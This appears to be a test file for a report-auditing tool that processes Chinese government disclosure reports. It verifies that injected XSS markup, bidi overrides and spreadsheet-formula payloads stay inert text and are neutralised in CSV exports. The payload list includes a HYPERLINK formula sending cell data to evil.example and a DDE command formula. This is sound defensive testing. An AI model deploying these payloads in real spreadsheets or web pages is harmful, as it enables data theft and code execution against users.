// Hostile page content — markup, script URLs, bidi overrides, spreadsheet formulas in titles and cells — stays
// inert text through the checker (model, findings, messages) and is neutralised by every CSV writer.
import { load } from 'cheerio';
import Papa from 'papaparse';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { auditDoc } from '../../src/audit';
import { csvHeader, csvObject } from '../../src/cli/format-csv';
import { captureOf } from '../../src/collection/capture';
import { collectionCsv } from '../../src/collection/export';
import { recordOf } from '../../src/collection/record';
import { resultCsv } from '../../src/export/csv';
import { readHtmlString } from '../../src/node/cheerio';
import { schemaErrors } from '../fuzz/invariants';

const REAL = readFileSync(new URL('../fixtures/real/shuyang-fgj-2023.html', import.meta.url), 'utf8');
const TITLE = '某某局2023年政府信息公开工作年度报告';
const REAL_TITLE = '沭阳县发展和改革局2023年政府信息公开年度报告';

/** written as text on the page (escaped markup): must come through as exactly this text */
const CELL_PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+1+1', '-1+1', '@SUM(A1:A9)', '=cmd|\' /C calc\'!A0',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)', '\u202e0'];
/** real markup on the page: must leave no trace but its visible text */
const ELEMENTS = '<script>alert("el")</script><img src=x onerror="alert(\'el\')"><a href="javascript:alert(\'el\')">链接</a>';
const TAGS_IN_PAYLOADS = new Set(['<script>', '</script>', '<img src=x onerror=alert(1)>']);

/** the real report with `titlePrefix` before its title (as a heading) and payloads in table 3's value cells */
function hostilePage(titlePrefix: string): string {
  const $ = load(REAL);
  // the page's own title and agency (metadata table 名称/发布机构, the scraper's 标题 line, its heading) are read
  // before any <h1>: they take the hostile prefix too, as text
  $('*').contents().each((_, n) => {
    if (n.type === 'text') n.data = n.data.replaceAll(REAL_TITLE, titlePrefix + TITLE).replaceAll('沭阳县发展和改革局', `${titlePrefix}某某局`);
  });
  // the opening sentence names the agency across several runs of text: it goes
  $('p').filter((_, p) => $(p).text().includes('现向社会公布')).text('根据《条例》要求，现公布本年度报告。');
  $('body').prepend($('<h1>').text(titlePrefix + TITLE));
  $('body').append(`<p>附注：${ELEMENTS}</p>`);
  const table3 = $('table').filter((_, t) => $(t).text().includes('本年新收'));
  const values = table3.find('td').filter((_, td) => /^\s*\d+\s*$/.test($(td).text()));
  CELL_PAYLOADS.forEach((p, i) => { values.eq(i * 3).text(p); });
  $('td').filter((_, td) => /^\s*\d+\s*$/.test($(td).text())).first().append(ELEMENTS);
  return $.html();
}

function audit(html: string) {
  const doc = readHtmlString(html);
  return { doc, ...auditDoc(doc, 'hostile.html') };
}

/** every string in a value, with where it stands */
const strings = (v: unknown): string[] =>
  typeof v === 'string' ? [v] : v && typeof v === 'object' ? Object.values(v).flatMap(strings) : [];

/** a cell a spreadsheet would evaluate: = + - @ tab CR at the start, unless it is a plain signed number */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();

describe('hostile content in the checker', () => {
  const bidiTitle = `\u202e<script>alert(1)</script><img src=x onerror=alert(1)>`;
  const { doc, model, result } = audit(hostilePage(bidiTitle));

  it('keeps a title holding markup and a bidi override as that text', () => {
    expect(result.title).toBe(bidiTitle + TITLE);
    expect(result.isReport).toBe(true);
    expect(schemaErrors(JSON.parse(JSON.stringify(result)))).toEqual([]);
  });

  it('reports each payload cell with the payload as the value found, verbatim in the message', () => {
    for (const p of CELL_PAYLOADS) {
      const f = result.findings.find((x) => x.rule === 'non-numeric' && x.actual === p);
      expect(f, p).toBeDefined();
      expect(f!.message).toContain(p);
    }
  });

  it('drops real script, image and link markup, keeping only the link\'s text', () => {
    const all = JSON.stringify({ doc, model, result });
    expect(all).not.toMatch(/alert\(["']el["']\)|onerror="|href=/);
    expect(all).toContain('链接');
  });

  it('produces no markup of its own: every tag in the model and results is a payload the page wrote as text', () => {
    const tags = strings({ doc, model, result }).flatMap((s) => s.match(/<\/?[a-z!][^<>]*>/gi) ?? []);
    expect(tags.filter((t) => !TAGS_IN_PAYLOADS.has(t))).toEqual([]);
  });
});

describe('CSV writers neutralise formulas', () => {
  const { doc, model, result } = audit(hostilePage('=HYPERLINK("http://evil.example","x")'));

  const expectInert = (csv: string) => {
    const all = cells(csv);
    expect(all.filter(isFormula)).toEqual([]);
    // the payloads are still there, as text a spreadsheet shows
    expect(all).toContain(`'${CELL_PAYLOADS[0]}`);
    expect(all).toContain(`'@SUM(A1:A9)`);
  };

  it('a formula-like title makes a formula-like agency', () => {
    expect(result.agency).toMatch(/^=HYPERLINK/);
  });

  it('the popup\'s CSV export (src/export/csv.ts)', () => {
    expectInert(resultCsv(result));
  });

  it('the CLI\'s --format csv (src/cli/format-csv.ts)', () => {
    const csv = csvHeader() + csvObject(result);
    expectInert(csv);
    expect(cells(csv)).toContain(`'${result.agency}`);
  });

  it('the collection\'s CSV export (src/collection/export.ts)', async () => {
    const record = await recordOf(captureOf(doc, model, result, '=HYPERLINK("http://evil.example")'));
    const csv = collectionCsv([record], 'zh');
    expectInert(csv);
    expect(cells(csv)).toContain(`'${result.agency}`);
  });
});
